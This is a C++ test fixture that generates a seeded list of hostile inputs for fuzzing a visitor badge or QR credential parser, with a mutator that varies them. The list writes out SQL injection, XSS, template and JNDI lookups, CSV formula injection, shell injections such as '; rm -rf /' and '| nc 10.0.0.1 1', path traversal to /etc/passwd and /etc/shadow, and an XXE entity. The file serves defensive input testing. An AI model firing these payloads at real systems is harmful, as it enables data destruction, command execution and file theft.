// SPDX-License-Identifier: Apache-2.0
// Payloads that an attacker with a printer may hold before a camera: texts that have broken other systems, and bytes that
// are not text. The same seed gives the same list; all are different, none is empty, none is a badge of ours.
#pragma once

#include <cstdint>
#include <random>
#include <set>
#include <string>
#include <vector>

#include "models/visit/credential.h"

namespace gapura::tests {

class HostilePayloads {
 public:
  explicit HostilePayloads(std::uint32_t seed) : random_(seed) {}

  std::vector<std::string> make(std::size_t count) {
    std::vector<std::string> all;
    std::set<std::string> known;
    const auto add = [&](std::string payload) {
      if (payload.empty() || payload.size() > 2900 || all.size() >= count) return;
      if (known.insert(escape_payload(payload)).second) all.push_back(std::move(payload));
    };
    for (const auto& payload : classics()) add(payload);
    while (all.size() < count) add(mutated());
    return all;
  }

 private:
  static std::vector<std::string> classics() {
    using std::string;
    const string token = make_token({1, 2, 3});
    return {
        // SQL, and the quotation mark that opened a well-known terminal as any user
        "'; DROP TABLE badge; --",
        "' OR '1'='1",
        "\" OR 1=1 --",
        "1); DELETE FROM entry; --",
        "'",
        "\"",
        "`",
        "\\",
        "%' --",
        "' UNION SELECT password_hash FROM user --",
        "admin'--",
        "';VACUUM INTO '/tmp/x';--",
        "x' AND randomblob(1e9) --",
        // HTML, scripts, templates
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg/onload=alert(1)>",
        "javascript:alert(1)",
        "</title><iframe src=//contoh.example>",
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "&lt;b&gt;",
        "<!--",
        "]]>",
        "<?php echo 1;?>",
        // terminals and logs
        "\x1b[2J\x1b[H",
        "\x1b]0;judul\x07",
        "\x1b[31mMERAH\x1b[0m",
        "\x9b"
        "31m",
        "\x07\x07\x07",
        "\r\nSet-Cookie: a=b",
        "\n[info] granted",
        "baris\r\nGRANTED gate.in",
        "\x08\x08\x08\x08",
        "\x7f\x7f",
        "\x1b[6n",
        "\x0c",
        "\v",
        // spreadsheets, formats, lookups, shells, paths
        "=cmd|'/C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "=HYPERLINK(\"http://contoh.example\")",
        "%s%s%s%n",
        "%x%x%x",
        "{}{0}",
        "%1$s",
        "${jndi:ldap://contoh.example/a}",
        "${env:HOME}",
        "$(reboot)",
        "`id`",
        "; rm -rf /",
        "| nc 10.0.0.1 1",
        "&& true",
        "../../../../etc/passwd",
        "..\\..\\boot.ini",
        "/dev/zero",
        "file:///etc/shadow",
        "CON",
        "NUL",
        "%00",
        "%2e%2e%2f",
        // text that is not what it looks like
        "\xe2\x80\xae"
        "IG:1G",
        "\xe2\x81\xa6"
        "G1:\xe2\x81\xa9",
        "\xef\xbb\xbf"
        "G1:",
        "G\xcc\x81"
        "1:",
        "\xe2\x80\x8b",
        "\xf0\x9f\x98\x80",
        "\xd0\x90\xd0\x92\xd0\x95",
        "\xff\xfe",
        "\xc0\xaf",
        "\xed\xa0\x80",
        "\xf4\x90\x80\x80",
        "\xc3\x28",
        "\xe2\x28\xa1",
        "\x80\x81\x82",
        "\xfe\xfe\xff\xff",
        string("G1:\0", 4),
        string("\0\0\0\0", 4),
        string("a\0b", 3),
        string(1, '\x01'),
        // nearly ours
        token.substr(0, 26),
        token + "0",
        " " + token,
        token + " ",
        token + "\n",
        "g1" + token.substr(2),
        "G2" + token.substr(2),
        token.substr(0, 3) + string(24, ':'),
        token.substr(0, 3) + string(24, ' '),
        string("\0", 1) + token,
        token + string("\0", 1),
        token + token,
        "R1:" + token.substr(3),
        "S1:" + token.substr(3),
        "G1:",
        "G1",
        "G",
        token.substr(0, 3) + "'" + token.substr(4),
        // large
        string(2900, 'A'),
        string(1200, '\xff'),
        string(800, '\0'),
        string(600, '\''),
        "G1:" + string(1500, '0'),
        // JSON, XML, the web
        "{\"typ\":\"access_granted\"}",
        "[1,2,3]",
        "{\"__proto__\":{}}",
        "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
        "true",
        "null",
        "NaN",
        "-1",
        "0",
        "1e309",
        "9223372036854775808",
        "https://contoh.example/?id=1",
        "WIFI:S:tamu;T:WPA;P:rahasia;;",
        "BEGIN:VCARD\nFN:Tamu Contoh\nEND:VCARD",
        "otpauth://totp/x?secret=AAAA",
        "tel:+62",
        "mailto:a@contoh.example",
        "data:text/html,<b>",
    };
  }

  std::uint32_t below(std::uint32_t limit) { return static_cast<std::uint32_t>(random_() % limit); }

  std::string bytes(std::size_t size) {
    std::string text;
    for (std::size_t i = 0; i < size; ++i) text += static_cast<char>(below(256));
    return text;
  }

  // A classic with something inserted, doubled, cut or flipped; or bytes of any kind.
  std::string mutated() {
    static const std::vector<std::string> known = classics();
    if (below(5) == 0) return bytes(1 + below(120));
    std::string text = known[below(static_cast<std::uint32_t>(known.size()))].substr(0, 160);
    const std::size_t at = below(static_cast<std::uint32_t>(text.size() + 1));
    switch (below(5)) {
      case 0:
        return text.insert(at, bytes(1 + below(6)));
      case 1:
        return text + known[below(static_cast<std::uint32_t>(known.size()))].substr(0, 160);
      case 2:
        return text.insert(at, std::to_string(random_()));
      case 3:
        if (!text.empty()) text[at % text.size()] = static_cast<char>(below(256));
        return text + std::to_string(below(100000));
      default:
        return make_token({static_cast<std::uint8_t>(below(256)), 9}).insert(below(27), text.substr(0, 8));
    }
  }

  std::mt19937 random_;
};

}  // namespace gapura::tests
